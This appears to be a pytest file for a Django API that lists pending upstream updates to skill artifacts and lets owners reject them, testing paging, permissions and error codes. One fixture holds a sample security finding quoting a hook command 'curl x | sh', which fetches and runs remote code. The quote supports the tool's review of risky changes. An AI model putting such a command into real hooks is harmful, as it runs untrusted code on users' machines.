"""GET collections/{id}/updates and POST .../updates/reject over HTTP: shapes, paging, errors.

The proposals here are rows as a run records them; tests/refresher/test_review_*.py make them
with real runs against real repositories.
"""

import uuid

import pytest

from refresher.models import PendingUpdate, ProposalState
from tests.factories import ArtifactFactory, CollectionFactory, PendingUpdateFactory

pytestmark = pytest.mark.django_db

FINDING = {
    "code": "hook_command",
    "severity": "high",
    "path": "hooks/hooks.json",
    "line": 12,
    "message": "New or changed hook on SessionStart runs a command: curl x | sh",
}


@pytest.fixture
def collection(user):
    return CollectionFactory(owner=user, name="Team")


def updates_url(collection, tail: str = "") -> str:
    return f"/api/v1/collections/{collection.pk}/updates{tail}"


def assert_error(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.content
    body = response.json()
    assert set(body) == {"code", "message", "details", "request_id"} and body["code"] == code
    return body


def test_the_list_shows_each_pending_update_with_what_a_reviewer_needs(api, collection):
    artifact = ArtifactFactory(collection=collection, name="pdf")
    PendingUpdateFactory(
        artifact=artifact,
        commits=[
            {"sha": "c" * 40, "message": "Add hook", "author": "A", "date": "2026-01-02T00:00:00Z"}
        ],
        diff="--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
        files=[{"path": "skills/pdf/SKILL.md", "status": "modified"}],
        findings=[FINDING],
    )
    body = api.get(updates_url(collection)).json()
    assert body["count"] == 1 and body["next"] is None and body["previous"] is None
    (item,) = body["results"]
    assert item == {
        "artifact_id": str(artifact.pk),
        "type": "skill",
        "name": "pdf",
        "main_file": "skills/pdf/SKILL.md",
        "current_sha": "a" * 40,
        "upstream_sha": "c" * 40,
        "found_at": item["found_at"],
        "run_id": None,
        "commits": [
            {"sha": "c" * 40, "message": "Add hook", "author": "A", "date": "2026-01-02T00:00:00Z"}
        ],
        "commits_truncated": False,
        "diff": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
        "diff_truncated": False,
        "files": [{"path": "skills/pdf/SKILL.md", "status": "modified"}],
        "files_truncated": False,
        "findings": [FINDING],
    }
    assert item["found_at"].endswith("Z")


def test_the_list_is_paginated_oldest_first_and_leaves_rejected_and_foreign_rows_out(
    api, collection, other_user
):
    for i in range(3):
        PendingUpdateFactory(artifact=ArtifactFactory(collection=collection, name=f"s{i}"))
    PendingUpdateFactory(
        artifact=ArtifactFactory(collection=collection, name="gone"), state=ProposalState.REJECTED
    )
    PendingUpdateFactory(artifact=ArtifactFactory(collection=CollectionFactory(owner=other_user)))
    first = api.get(updates_url(collection, "?page_size=2")).json()
    assert first["count"] == 3 and [r["name"] for r in first["results"]] == ["s0", "s1"]
    second = api.get(first["next"]).json()
    assert [r["name"] for r in second["results"]] == ["s2"]
    assert api.get(updates_url(collection, "/")).status_code == 200  # with the slash too
    assert_error(api.get(updates_url(collection, "?page=9")), 404, "not_found")
    assert_error(api.get(updates_url(collection, "?page=zero")), 400, "invalid_request")


def test_another_users_collection_is_404_and_anonymous_is_401(api, anon_api, other_user):
    theirs = CollectionFactory(owner=other_user)
    assert_error(api.get(updates_url(theirs)), 404, "not_found")
    assert_error(
        api.post(updates_url(theirs, "/reject"), {"all": True}, format="json"), 404, "not_found"
    )
    assert_error(anon_api.get(updates_url(theirs)), 401, "not_authenticated")


def test_reject_marks_the_chosen_updates_and_keeps_the_rest(api, user, collection):
    rows = [
        PendingUpdateFactory(artifact=ArtifactFactory(collection=collection, name=f"s{i}"))
        for i in range(3)
    ]
    response = api.post(
        updates_url(collection, "/reject"),
        {"artifact_ids": [str(rows[0].artifact_id), str(rows[2].artifact_id)]},
        format="json",
    )
    assert response.status_code == 200, response.content
    assert response.json() == {
        "rejected": [
            {
                "artifact_id": str(r.artifact_id),
                "type": "skill",
                "name": n,
                "upstream_sha": "c" * 40,
            }
            for r, n in ((rows[0], "s0"), (rows[2], "s2"))
        ]
    }
    states = dict(PendingUpdate.objects.values_list("artifact__name", "state"))
    assert states == {"s0": "rejected", "s1": "pending", "s2": "rejected"}
    rejected = PendingUpdate.objects.get(artifact=rows[0].artifact)
    assert rejected.rejected_by == user and rejected.rejected_at is not None
    listed = api.get(updates_url(collection)).json()
    assert [r["name"] for r in listed["results"]] == ["s1"]


def test_reject_all_then_nothing_is_pending(api, collection):
    for i in range(2):
        PendingUpdateFactory(artifact=ArtifactFactory(collection=collection, name=f"s{i}"))
    response = api.post(updates_url(collection, "/reject"), {"all": True}, format="json")
    assert [r["name"] for r in response.json()["rejected"]] == ["s0", "s1"]
    again = api.post(updates_url(collection, "/reject"), {"all": True}, format="json")
    assert_error(again, 409, "nothing_pending")


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"artifact_ids": []},
        {"artifact_ids": ["not-a-uuid"]},
        {"artifact_ids": [12]},
        {"all": False},
        {"all": "yes"},
        {"all": True, "artifact_ids": [str(uuid.uuid4())]},
        {"all": True, "extra": 1},
    ],
)
def test_a_malformed_review_request_is_a_400(api, collection, body):
    PendingUpdateFactory(artifact=ArtifactFactory(collection=collection))
    assert_error(
        api.post(updates_url(collection, "/reject"), body, format="json"), 400, "invalid_request"
    )
    assert PendingUpdate.objects.get().state == ProposalState.PENDING


def test_unknown_foreign_or_not_pending_ids_are_a_400_naming_them_and_nothing_changes(
    api, collection, other_user
):
    mine = PendingUpdateFactory(artifact=ArtifactFactory(collection=collection, name="mine"))
    theirs = PendingUpdateFactory(
        artifact=ArtifactFactory(collection=CollectionFactory(owner=other_user))
    )
    quiet = ArtifactFactory(collection=collection, name="quiet")  # nothing pending
    unknown = uuid.uuid4()
    for stranger in (theirs.artifact_id, quiet.pk, unknown):
        response = api.post(
            updates_url(collection, "/reject"),
            {"artifact_ids": [str(mine.artifact_id), str(stranger)]},
            format="json",
        )
        body = assert_error(response, 400, "invalid_request")
        assert str(stranger) in body["details"]["artifact_ids"][0]
        assert str(mine.artifact_id) not in body["message"]
    assert set(PendingUpdate.objects.values_list("state", flat=True)) == {"pending"}


def test_a_body_that_is_not_an_object_is_a_400(api, collection):
    response = api.post(updates_url(collection, "/reject"), "[1]", content_type="application/json")
    assert_error(response, 400, "invalid_request")
